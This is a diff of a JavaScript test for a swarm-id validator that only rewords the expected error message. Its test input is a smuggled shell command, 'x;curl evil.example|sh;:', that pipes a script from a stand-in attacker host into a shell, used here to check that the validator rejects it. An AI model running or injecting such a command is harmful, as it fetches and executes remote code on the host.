@@ -78,7 +78,7 @@ describe('identifiers', () => {
 
   it('say what was said instead, cut short', () => {
     expect(() => swarmId('x;curl evil.example|sh;:', 'worker1')).to.throw(
-      'what was said in place of a swarm id is none (on worker1)\n  expected: a swarm id\n  observed: "x;curl evil.example|sh;:"',
+      'received something that is not a swarm id (on worker1)\n  expected: a swarm id\n  observed: "x;curl evil.example|sh;:"',
     )
   })
 
